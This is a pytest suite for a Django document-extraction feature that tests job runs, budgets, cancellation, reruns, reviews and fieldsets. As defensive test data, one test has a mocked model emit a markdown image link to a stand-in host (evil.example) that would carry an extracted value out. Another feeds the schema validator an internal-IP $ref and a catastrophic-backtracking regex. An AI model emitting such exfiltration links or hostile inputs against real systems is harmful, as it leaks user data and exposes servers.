"""Extracts as runs: one job per document, exactly one answer per cell, budget, cancelling, answering again."""

import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from core.errors import Invalid, NotAllowed, NotFound
from corpuses.corpora.services import delete_corpus
from corpuses.extracts import lifecycle, reviews, runs
from corpuses.extracts.api.rest.extracts import load_counts
from corpuses.extracts.columns import ColumnDraft
from corpuses.extracts.comparison import differing_cells
from corpuses.extracts.engines.registry import UnknownEngine
from corpuses.extracts.estimates import estimate
from corpuses.extracts.fieldsets import FieldsetDraft, FieldsetExists, copy_fieldset, create_fieldset, update_fieldset
from corpuses.extracts.models import Cell, Column, Extract, ExtractRow
from corpuses.extracts.summaries import ExtractState, states_of, summaries_of
from corpuses.extracts.templates import UnknownTemplate, all_templates
from corpuses.models import CorpusDocument, CorpusShare
from tasks.models import Job
from tasks.runtime import queue
from tasks.testing import run_jobs
from tests.upstreams import fails, says_answers

pytestmark = pytest.mark.django_db(transaction=True)

TEXTS = ("The rent is EUR 900.", "The rent is EUR 1,200.")


def by_text(request):
    """Answer with the amount that the passages contain; one of the term is never found."""
    body = request["messages"][1]["content"]
    amount = next((each for each in ("EUR 900", "EUR 1,200") if each in body), "")
    found = {"value": amount, "quotes": [f"rent is {amount}"]}
    absent = {"value": None, "quotes": []}
    return says_answers(*(found if "rent?" in line and amount else absent for line in re.findall("Question .*", body)))


@pytest.fixture
def documents(add_parsed):
    return [add_parsed(text) for text in TEXTS]


@pytest.fixture
def fieldset(corpus, user):
    columns = [
        ColumnDraft(name="Rent", question="How much is the rent?"),
        ColumnDraft(name="Term", question="How long?"),
    ]
    return create_fieldset(FieldsetDraft(name="Lease", columns=columns), corpus=corpus, actor=user)


@pytest.fixture
def answering_model(model):
    server = model()
    server.choose = by_text
    return server


def start(fieldset, user, **options):
    draft = runs.ExtractDraft(fieldset=fieldset, **options)
    return runs.start_extract(draft, corpus=fieldset.corpus, actor=user)


def texts(extract):
    cells = Cell.objects.filter(row__extract=extract).order_by("row", "column__order")
    return [cell.text for cell in cells]


def state(extract):
    extract.refresh_from_db()
    return states_of([extract])[extract.pk]


def test_an_extract_has_one_job_for_each_document_and_one_cell_for_each_question(
    documents, fieldset, user, answering_model
):
    # proves: S1-14
    extract = start(fieldset, user)
    assert Job.objects.filter(kind=runs.KIND).count() == 2
    assert state(extract) == ExtractState.RUNNING
    run_jobs()
    assert texts(extract) == ["EUR 900", "", "EUR 1,200", ""]
    assert state(extract) == ExtractState.DONE
    summary = summaries_of([extract], user)[extract.pk]
    assert (summary.cells, summary.row_count, summary.tokens) == ({"found": 2, "not_found": 2}, 2, 240)
    assert len(answering_model.requests) == 2


def test_rows_of_hidden_documents_are_not_counted(documents, fieldset, user, other_user, answering_model, corpus):
    CorpusShare.objects.create(target=corpus, user=other_user, role="viewer", created_by=user)
    extract = start(fieldset, user)
    run_jobs()
    CorpusDocument.objects.filter(document=documents[1]).update(added_by=None)  # no role extends to it
    counts = [load_counts([extract], actor)[extract.pk] for actor in (user, other_user)]
    assert [(each["rows"], each["cells"], each["found"], each["tokens"]) for each in counts] == [
        (2, 4, 2, 240),
        (1, 2, 1, 120),
    ]


def test_a_job_that_is_delivered_again_asks_nothing(documents, fieldset, user, answering_model):
    # proves: S1-14 S1-G1
    extract = start(fieldset, user)
    run_jobs()
    before = list(Cell.objects.order_by("pk").values())
    for job in Job.objects.filter(kind=runs.KIND):
        row = ExtractRow.objects.get(job=job.pk)
        queue.enqueue(
            runs.KIND, args={"row_id": str(row.pk)}, tenant_id=job.tenant_id, owner_id=job.owner_id,
            subject_id=row.document_id,
        )  # fmt: skip
    run_jobs()
    assert list(Cell.objects.order_by("pk").values()) == before
    assert len(answering_model.requests) == 2
    assert state(extract) == ExtractState.DONE


def test_a_failed_row_says_why_and_is_answered_again(documents, fieldset, user, model, settings):
    # proves: X-24 S0-12
    settings.LLM_MAX_RETRIES = 1
    server = model(fails(503))
    extract = start(fieldset, user)
    run_jobs(skip_waits=True)
    assert len(server.requests) == 4  # two tries for each of two jobs, and no second layer of retries
    row = extract.rows.first()
    assert (row.state, row.code) == ("failed", "llm_unavailable")
    assert row.message == "The language model is not available right now. Try again later."
    assert {cell.status for cell in row.cells.all()} == {"failed"}
    server.choose = by_text
    assert runs.rerun(extract, runs.Selection(only_failed=True), actor=user) == 2
    run_jobs()
    assert texts(extract) == ["EUR 900", "", "EUR 1,200", ""]
    assert set(extract.rows.values_list("code", "message")) == {("", "")}


def test_a_budget_stops_the_extract_with_a_reason(documents, fieldset, user, answering_model):
    extract = start(fieldset, user, budget_tokens=120)
    run_jobs()
    assert len(answering_model.requests) == 1
    assert state(extract) == ExtractState.OUT_OF_BUDGET
    skipped = Cell.objects.filter(row__extract=extract, status="skipped")
    assert {cell.problem for cell in skipped} == {"The budget of the extract is used up."}
    assert skipped.count() == 2  # those of the second document


def test_answering_again_counts_for_the_budget(documents, fieldset, user, answering_model):
    extract = start(fieldset, user, budget_tokens=240)
    run_jobs()
    assert state(extract) == ExtractState.DONE
    runs.rerun(extract, runs.Selection(), actor=user)
    run_jobs()
    assert len(answering_model.requests) == 2
    assert state(extract) == ExtractState.OUT_OF_BUDGET
    runs.update_extract(extract, actor=user, budget_tokens=1_000)
    runs.rerun(extract, runs.Selection(), actor=user)
    run_jobs()
    assert state(extract) == ExtractState.DONE
    assert sum(cell.input_tokens + cell.output_tokens for cell in Cell.objects.all()) == 480


def test_values_have_no_addresses_that_the_document_does_not_contain(documents, fieldset, user, answering_model):
    value = {"value": "See ![rent](//evil.example/?rent=900)", "quotes": ["rent is EUR 900"]}
    answering_model.choose = lambda _: says_answers(value, {"value": ["evil.example/900"], "quotes": []})
    extract = start(fieldset, user, documents=[documents[0].pk])
    run_jobs()
    cells = Cell.objects.filter(row__extract=extract)
    assert sorted(cells.values_list("raw", flat=True)) == ["See ![rent]((address removed))", '["(address removed)"]']
    assert "evil" not in str(list(cells.values()))


def test_a_cancelled_extract_asks_nothing_more(documents, fieldset, user, answering_model):
    extract = start(fieldset, user)
    extract.rows.update(code="llm_unavailable")  # of an earlier attempt
    runs.cancel_extract(extract, actor=user)
    run_jobs()
    assert answering_model.requests == []
    assert state(extract) == ExtractState.CANCELLED
    assert set(extract.rows.values_list("state", "code")) == {("cancelled", "")}
    assert runs.rerun(extract, runs.Selection(), actor=user) == 2
    run_jobs()
    assert state(extract) == ExtractState.DONE


def test_an_extract_that_has_ended_is_not_cancelled_any_more(documents, fieldset, user, answering_model):
    extract = start(fieldset, user)
    run_jobs()
    runs.cancel_extract(extract, actor=user)
    assert state(extract) == ExtractState.DONE
    lifecycle.delete_extract(extract, actor=user)
    lifecycle.restore_extract(Extract.with_deleted.get(), actor=user)
    assert state(extract) == ExtractState.DONE


def test_a_row_whose_job_was_cancelled_has_a_message_without_a_code(documents, fieldset, user):
    extract = start(fieldset, user)
    queue.cancel_all(extract.rows.values_list("job", flat=True))
    ends = set(extract.rows.values_list("state", "code", "message"))
    assert ends == {("cancelled", "", "Cancelled by a user.")}


def test_a_column_and_a_row_can_be_answered_again(documents, fieldset, user, answering_model):
    extract = start(fieldset, user)
    run_jobs()
    column = extract.columns.get(name="Rent")
    approved = Cell.objects.filter(column=column).first()
    reviews.review_cells([approved], Cell.Review.APPROVED, actor=user)
    del answering_model.requests[:]
    runs.rerun(extract, runs.Selection(columns=[column.pk]), actor=user)
    run_jobs()
    assert len(answering_model.requests) == 1  # the cell that was approved is left alone
    runs.rerun(extract, runs.Selection(rows=[extract.rows.last().pk]), actor=user)
    run_jobs()
    assert len(answering_model.requests) == 2
    runs.rerun(extract, runs.Selection(cells=[approved.pk]), actor=user)
    run_jobs()
    assert len(answering_model.requests) == 3
    approved.refresh_from_db()
    assert (approved.review, approved.text) == ("unreviewed", "EUR 900")


def test_a_new_column_of_an_extract_is_answered_by_running_it_again(documents, fieldset, user, answering_model):
    extract = start(fieldset, user)
    run_jobs()
    kept = [ColumnDraft(id=each.pk, name=each.name, question=each.question) for each in extract.columns.all()]
    runs.update_extract(extract, actor=user, columns=[*kept, ColumnDraft(name="Again", question="What is the rent?")])
    new = extract.columns.get(name="Again")
    runs.rerun(extract, runs.Selection(columns=[new.pk]), actor=user)
    run_jobs()
    assert [cell.text for cell in new.cells.order_by("row")] == ["EUR 900", "EUR 1,200"]


def test_two_runs_are_compared_and_differences_are_marked(documents, fieldset, user, answering_model):
    first = start(fieldset, user)
    run_jobs()
    answering_model.choose = lambda request: (
        by_text(request) if "900" in str(request) else says_answers({"value": None}, {"value": None})
    )
    second = start(fieldset, user)
    run_jobs()
    assert second.previous == first
    (cell,) = differing_cells(Cell.objects.filter(row__extract=second), first.pk)
    assert (cell.text, cell.has_conflict) == ("", True)
    assert Cell.objects.get(pk=cell.other_id).text == "EUR 1,200"
    assert list(differing_cells(Cell.objects.filter(row__extract=first), first.pk)) == []
    assert Cell.objects.filter(row__extract=second, has_conflict=True).count() == 1


def test_a_change_of_the_fieldset_leaves_earlier_extracts_as_they_are(documents, fieldset, user, answering_model):
    extract = start(fieldset, user)
    rent_column = fieldset.columns.get(name="Rent")
    update_fieldset(fieldset, actor=user, columns=[ColumnDraft(id=rent_column.pk, name="Pay", question="Pay?")])
    assert list(fieldset.columns.values_list("name", "lineage")) == [("Pay", rent_column.lineage)]
    assert list(extract.columns.values_list("name", flat=True)) == ["Rent", "Term"]
    assert extract.columns.get(name="Rent").lineage == rent_column.lineage


def test_columns_can_exchange_their_names(fieldset, user):
    one, two = fieldset.columns.all()
    swapped = [ColumnDraft(id=one.pk, name="Term", question="?"), ColumnDraft(id=two.pk, name="Rent", question="?")]
    update_fieldset(fieldset, actor=user, columns=swapped)
    assert list(fieldset.columns.values_list("pk", "name")) == [(one.pk, "Term"), (two.pk, "Rent")]


@pytest.mark.parametrize(
    ("draft", "message"),
    [
        ({"type": "enum"}, "choices"),
        ({"type": "list", "items": "object"}, "cannot be lists"),
        ({"type": "object"}, "JSON Schema of an object"),
        ({"type": "object", "schema": {"type": "object", "properties": 1}}, "is invalid"),
        ({"type": "object", "schema": {"type": "object", "$ref": "http://10.0.0.1/"}}, "none of"),
        ({"type": "object", "schema": {"type": "object", "pattern": "(a+)+$"}}, "none of"),
        ({"question": " "}, "needs a question"),
        ({"name": "\u200b"}, "1 to 100"),
    ],
)
def test_columns_that_cannot_be_answered_are_refused(fieldset, user, draft, message):
    with pytest.raises(Invalid, match=message):
        update_fieldset(fieldset, actor=user, columns=[ColumnDraft(**{"name": "New", "question": "?", **draft})])


def test_ready_made_fieldsets_can_be_copied_and_changed(corpus, user):
    slugs = [template.slug for template in all_templates()]
    assert slugs == ["contracts", "invoices", "leases", "papers", "emails"]
    created = [create_fieldset(FieldsetDraft(template=slug), corpus=corpus, actor=user) for slug in slugs]
    assert created[0].columns.count() == 41
    assert created[0].columns.get(name="Agreement date").type == "date"
    copy = copy_fieldset(created[1], corpus=corpus, actor=user)
    assert (copy.name, copy.template, copy.columns.count()) == ("Invoices (2)", "invoices", 12)
    with pytest.raises(FieldsetExists):
        create_fieldset(FieldsetDraft(template="contracts"), corpus=corpus, actor=user)
    with pytest.raises(UnknownTemplate, match="contracts, invoices"):
        create_fieldset(FieldsetDraft(template="recipes"), corpus=corpus, actor=user)


def test_reviews_need_proof_and_a_role(documents, fieldset, user, other_user, answering_model, corpus):
    invented = {"value": "EUR 1", "quotes": ["EUR 1 million"]}
    answering_model.choose = lambda _: says_answers(invented, invented)
    extract = start(fieldset, user, documents=[documents[0].pk])
    run_jobs()
    cell = Cell.objects.filter(row__extract=extract).first()
    assert (cell.status, cell.text) == ("unproven", "EUR 1")
    with pytest.raises(reviews.CellUnproven):
        reviews.review_cells([cell], Cell.Review.APPROVED, actor=user)
    change = reviews.CellChange(text="EUR 900", sources=[reviews.PickedSource(12, 19)])
    CorpusShare.objects.create(target=corpus, user=other_user, role="annotator", created_by=user)
    with pytest.raises(NotAllowed):
        reviews.update_cell(cell, change, actor=other_user)
    edited = reviews.update_cell(cell, change, actor=user)
    assert (edited.status, edited.raw, edited.text, edited.review, edited.reviewer) == (
        "found", "EUR 1", "EUR 900", "edited", user,
    )  # fmt: skip
    assert edited.sources == [{"start": 12, "end": 19, "page": 1, "quote": "EUR 900"}]
    assert edited.is_source_picked
    (approved,) = reviews.review_cells([edited], Cell.Review.APPROVED, actor=user)
    assert approved.review == "approved"
    emptied = reviews.update_cell(approved, reviews.CellChange(text=""), actor=user)
    assert (emptied.status, emptied.text, emptied.sources, emptied.review) == ("not_found", "", [], "edited")
    with pytest.raises(Invalid, match="passage"):
        reviews.update_cell(cell, reviews.CellChange(text="x", sources=[reviews.PickedSource(0, 10_000)]), actor=user)


def test_an_estimate_counts_cells_tokens_and_cost(documents, fieldset, settings):
    settings.LLM_PRICE_INPUT, settings.LLM_PRICE_OUTPUT = 1_000_000, 0
    engine = runs.chosen_engine("language-model", fieldset.corpus)
    found = estimate([document.pk for document in documents], 2, engine)
    assert (found.documents, found.columns, found.cells) == (2, 2, 4)
    read = sum(len(document.revision.text) // 4 + 150 + 2 * 100 for document in documents)  # one request for each
    assert (found.tokens, found.cost) == (read + 4 * 120, read)
    assert found.seconds > 0


def test_documents_are_added_once(documents, fieldset, user, answering_model):
    extract = start(fieldset, user, documents=[documents[0].pk])
    keys = [document.pk for document in documents]
    assert runs.add_documents(extract, keys, actor=user) == 1
    assert runs.add_documents(extract, keys, actor=user) == 0
    assert extract.rows.count() == 2


def test_extracts_without_documents_columns_or_engine_are_refused(fieldset, user, corpus):
    with pytest.raises(Invalid, match="no document"):
        start(fieldset, user)
    with pytest.raises(UnknownEngine, match="installed"):
        start(fieldset, user, engine="oracle")
    Column.objects.filter(fieldset=fieldset).delete()
    with pytest.raises(Invalid, match="with columns"):
        start(fieldset, user)


def test_a_deleted_extract_is_restored_with_its_cells(documents, fieldset, user, answering_model):
    extract = start(fieldset, user)
    run_jobs()
    lifecycle.delete_extract(extract, actor=user)
    assert not Extract.objects.exists()
    lifecycle.restore_extract(Extract.with_deleted.get(), actor=user)
    assert texts(Extract.objects.get()) == ["EUR 900", "", "EUR 1,200", ""]
    lifecycle.delete_extract(extract, actor=user, permanently=True)
    assert not Cell.objects.exists()
    with pytest.raises(NotFound):
        lifecycle.restore_extract(extract, actor=user)


def test_jobs_of_a_deleted_corpus_end_without_work(documents, fieldset, user, answering_model):
    start(fieldset, user)
    delete_corpus(fieldset.corpus, actor=user)
    run_jobs()
    assert answering_model.requests == []
    assert set(Job.objects.filter(kind=runs.KIND).values_list("state", flat=True)) == {"cancelled"}


def test_starting_many_rows_needs_as_many_queries_as_few(add_parsed, fieldset, user):
    counts = []
    for number in (2, 6):
        keys = [add_parsed(TEXTS[0]).pk for _ in range(number)]
        with CaptureQueriesContext(connection) as captured:
            start(fieldset, user, documents=keys)
        counts.append(len(captured))
    assert counts[1] - counts[0] <= 1  # of the dispatch
